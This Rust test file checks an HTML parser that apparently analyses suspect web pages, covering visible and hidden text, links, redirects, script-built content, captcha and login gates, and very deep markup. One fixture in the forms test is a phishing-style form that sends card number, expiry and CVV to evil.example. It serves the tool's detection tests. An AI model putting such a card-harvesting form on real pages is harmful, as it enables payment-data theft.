//! Pages as a whole.

use super::way_back_tests::assert_maps_lead_back;
use super::*;
use crate::capture::Capture;
use std::fmt::Write as _;

/// A capture of a body that no network was needed for.
pub(crate) fn capture(url: &str, content_type: Option<&str>, body: &[u8]) -> Capture {
    let url = SuspectUrl::parse(url).unwrap();
    Capture::of_file(&url, content_type, body.to_vec())
}

pub(crate) fn page(html: &str) -> Page {
    parse(&capture(
        "http://shop.example/dir/",
        Some("text/html; charset=utf-8"),
        html.as_bytes(),
    ))
}

fn texts(page: &Page, kind: RegionKind) -> Vec<&str> {
    page.regions
        .iter()
        .filter(|r| r.kind == kind)
        .map(|r| r.text.as_str())
        .collect()
}

#[test]
fn blocks_are_text_with_inline_elements_joined() {
    let page = page(
        "<title> A  title </title><h1>Big <i>head</i></h1>Loose<p>One <b>two</b>&nbsp;three<br>four</p><ul><li>Алматы<li>Астана</ul>",
    );
    assert_eq!(page.title, "A title");
    assert_eq!(texts(&page, RegionKind::Title), ["A title"]);
    assert_eq!(texts(&page, RegionKind::Heading), ["Big head"]);
    assert_eq!(
        texts(&page, RegionKind::Text),
        ["Loose", "One two three\nfour", "Алматы", "Астана"]
    );
    assert_eq!(assert_maps_lead_back(&page), 0);
    let blocks: Vec<u32> = page.regions.iter().map(|r| r.block).collect();
    assert!(blocks.is_sorted());
}

#[test]
fn a_row_is_one_block_and_so_is_a_small_card() {
    let page = page(
        "<table><tr><td>1 г</td><td><p>15 000 тг</p></td></tr><tr><td>2 г</td><td>28 000 тг</td></tr></table>\
         <div class=card><h3>Чай</h3><div>0,5 кг</div><span>900 тг</span></div>",
    );
    assert_eq!(
        texts(&page, RegionKind::Text),
        ["1 г\t15 000 тг", "2 г\t28 000 тг", "Чай\n0,5 кг\n900 тг"]
    );
    assert_eq!(texts(&page, RegionKind::Heading), ["Чай"]);
    assert_eq!(assert_maps_lead_back(&page), 0);
}

#[test]
fn links_carry_text_target_and_kind() {
    let page = page(
        "<base href='http://other.example/x/'><a href='a?b=1&amp;c=2'>Один <b>два</b></a><a href='tg://resolve?domain=some_bot'>тг</a>\
         <iframe src=//f.example/in></iframe><link rel=canonical href=/c>",
    );
    let links: Vec<(Option<&str>, &str, LinkKind)> = page
        .links
        .iter()
        .map(|l| {
            (
                l.url.as_ref().map(SuspectUrl::as_str),
                l.text.as_str(),
                l.kind,
            )
        })
        .collect();
    assert_eq!(
        links,
        [
            (
                Some("http://other.example/x/a?b=1&c=2"),
                "Один два",
                LinkKind::Anchor
            ),
            (None, "тг", LinkKind::Anchor),
            (Some("http://f.example/in"), "", LinkKind::Frame),
            (Some("http://other.example/c"), "", LinkKind::Related),
        ]
    );
    let hrefs = texts(&page, RegionKind::Href);
    assert_eq!(hrefs[0], "a?b=1&c=2");
    assert_eq!(texts(&page, RegionKind::LinkText), ["Один два", "тг"]);
    assert_eq!(assert_maps_lead_back(&page), 0);
}

#[test]
fn what_is_not_shown_is_hidden_text() {
    let page = page(
        "<style>.x{display:none}</style><p>Видно<span style='font-size:0'>тайно</span> всем</p><div class=x><p>Раз<p>Два</div>\
         <!-- скрытый комментарий --><noscript>Без скриптов</noscript><template>Шаблон</template>",
    );
    assert_eq!(texts(&page, RegionKind::Text), ["Видно всем"]);
    let hidden = texts(&page, RegionKind::Hidden);
    for text in [
        "тайно",
        "Раз",
        "Два",
        "скрытый комментарий",
        "Без скриптов",
        "Шаблон",
    ] {
        assert!(hidden.contains(&text), "{text} in {hidden:?}");
    }
    assert_eq!(assert_maps_lead_back(&page), 0);
}

#[test]
fn meta_pictures_scripts_and_structured_data_are_regions() {
    let page = page(
        r#"<meta name=description content="Описание &quot;тут&quot;"><meta property="og:title" content="Заголовок">
        <img src="/img/sinij-chaj.jpg" alt="Синий чай"><a href=# title="Подсказка">x</a>
        <script>var s = "\u0447\u0430\u0439 почтой";</script>
        <script type="application/ld+json">{"@type":"Product","name":"Чай \"Синий\""}</script>"#,
    );
    assert_eq!(
        texts(&page, RegionKind::Meta),
        ["Описание \"тут\"", "Заголовок"]
    );
    assert_eq!(
        texts(&page, RegionKind::Alt),
        ["Синий чай", "sinij-chaj", "Подсказка"]
    );
    assert_eq!(texts(&page, RegionKind::Script), ["чай почтой"]);
    assert_eq!(
        texts(&page, RegionKind::StructuredData),
        ["Product", "Чай \"Синий\""]
    );
    assert_maps_lead_back(&page);
}

#[test]
fn forms_know_their_fields_and_where_they_post() {
    let page = page(
        "<form action=https://evil.example/send method=POST><label for=n>Номер карты</label><input id=n name=a>\
         <label>Срок действия <input name=b></label><p>CVV</p><input name=c maxlength=3><select name=city><option>Алматы<option>Астана</select></form>\
         <input type=password name=p>",
    );
    assert_eq!(page.forms.len(), 2);
    let form = &page.forms[0];
    assert_eq!(form.action.as_ref().unwrap().host(), "evil.example");
    assert!(form.posts);
    let kinds: Vec<FieldKind> = form.fields.iter().map(|f| f.kind).collect();
    assert_eq!(
        kinds,
        [
            FieldKind::CardNumber,
            FieldKind::CardExpiry,
            FieldKind::CardCvv,
            FieldKind::Other
        ]
    );
    assert_eq!(page.forms[1].fields[0].kind, FieldKind::Password);
    assert!(texts(&page, RegionKind::Form).contains(&"Астана"));
}

#[test]
fn a_document_that_sends_visitors_away_says_where() {
    let refresh = |html: &str| {
        page(html)
            .refresh
            .map(|r| (r.kind, r.url.as_str().to_owned(), r.delay_s))
    };
    let there = |kind, delay| Some((kind, "http://next.example/".to_owned(), delay));
    assert_eq!(
        refresh("<meta http-equiv=Refresh content='3; URL=http://next.example/'>"),
        there(RefreshKind::Meta, 3)
    );
    assert_eq!(
        refresh("<script>location.href='http://next.example/'</script>"),
        there(RefreshKind::Script, 0)
    );
    assert_eq!(
        refresh("<frameset><frame src='http://next.example/'></frameset>"),
        there(RefreshKind::Frame, 0)
    );
    assert_eq!(
        refresh("<body onload=\"location='http://next.example/'\">"),
        there(RefreshKind::Script, 0)
    );
    assert_eq!(refresh("<meta http-equiv=refresh content=300>"), None);
    let long = format!(
        "<p>{}</p><script>location.href='http://next.example/'</script>",
        "слово ".repeat(80)
    );
    assert_eq!(refresh(&long), None);
}

#[test]
fn a_page_built_by_its_own_script_shows_what_the_script_writes() {
    let page = page(
        "<div id=app></div><script>document.getElementById('app').innerHTML='<h1>Чай почтой</h1><p>Один грамм — сто тенге</p><a href=/b>б</a><input name=iin>'</script>",
    );
    assert_eq!(
        texts(&page, RegionKind::Text),
        ["Чай почтой\nОдин грамм — сто тенге\nб"]
    );
    let encoded = super::tests::page(
        "<div id=q data-k='PHA+0KfQsNC5INC/0L7Rh9GC0L7QuTwvcD4='>Ждите</div><script>atob(q.dataset.k)</script>",
    );
    assert!(texts(&encoded, RegionKind::Text).contains(&"Чай почтой"));
    assert_eq!(page.links[0].href, "/b");
    assert_eq!(page.forms[0].fields[0].kind, FieldKind::Iin);
}

#[test]
fn gates_are_told_from_pages_that_can_be_judged() {
    let gate = |html: &str| page(html).gate;
    assert_eq!(
        gate("<p>Проверка браузера</p><div class=cf-turnstile data-sitekey=x></div>"),
        Some(Gate::Captcha)
    );
    assert_eq!(
        gate("<p>Докажите, что вы не робот</p><form><input name=code></form>"),
        Some(Gate::Captcha)
    );
    assert_eq!(
        gate("<form><input name=login><input type=password></form>"),
        Some(Gate::Login)
    );
    assert_eq!(
        gate("<div id=root></div><script src=a.js></script>"),
        Some(Gate::NeedsBrowser)
    );
    let full = format!(
        "<p>{}</p><form><input name=login><input type=password></form>",
        "слово ".repeat(100)
    );
    assert_eq!(gate(&full), None);
}

#[test]
fn deep_and_wide_documents_parse_fast_and_lose_nothing() {
    let mut attributes = String::from("<p ");
    for number in 0..50_000 {
        let _ = write!(attributes, "a{number}=1 ");
    }
    let shapes = [
        (
            "depth",
            format!(
                "{}<a href=/deep>внутри</a>{}<p>после",
                "<div>".repeat(50_000),
                "</div>".repeat(50_000)
            ),
        ),
        ("attributes", format!("{attributes}>внутри</p><p>после")),
        (
            "depth",
            format!("{}внутри<p>после", "<b><div>".repeat(5_000)),
        ),
        (
            "",
            format!("{}внутри<p>после", "<p><b id=1><i id=2></p>".repeat(400)),
        ),
        (
            "depth",
            format!(
                "{}внутри{}<p>после",
                "<table><tr><td>".repeat(3_000),
                "</td></tr></table>".repeat(3_000)
            ),
        ),
    ];
    for (cut, html) in shapes {
        let page = page(&html);
        let all: String = page.regions.iter().map(|r| r.text.as_str()).collect();
        assert!(all.contains("внутри") && all.contains("после"), "{cut}");
        assert!(
            cut.is_empty() || page.cuts.contains(&cut),
            "{cut} {:?}",
            page.cuts
        );
        // Quadratic work on any of these takes minutes, which nobody overlooks.
        assert_maps_lead_back(&page);
    }
}

#[test]
fn documents_with_too_many_nodes_still_show_their_end() {
    let page = page(&format!(
        "{}<p>самый конец",
        "<p><b id=1></p><p><b id=2></p><b a><b c>".repeat(20_000)
    ));
    let all: String = page.regions.iter().map(|r| r.text.as_str()).collect();
    assert!(all.contains("самый конец"));
}

#[test]
fn plain_text_is_read_by_paragraphs() {
    let page = parse(&capture(
        "http://a.example/x.txt",
        Some("text/plain"),
        "Раз\nдва\n\n  Три\n".as_bytes(),
    ));
    assert_eq!(page.kind, PageKind::Text);
    assert_eq!(texts(&page, RegionKind::Text), ["Раз\nдва", "Три"]);
    assert_eq!(assert_maps_lead_back(&page), 0);
    let picture = parse(&capture(
        "http://a.example/x",
        None,
        b"\x89PNG\r\n\x1a\n\0\0",
    ));
    assert_eq!(picture.kind, PageKind::Other);
    assert!(texts(&picture, RegionKind::Text).is_empty());
}
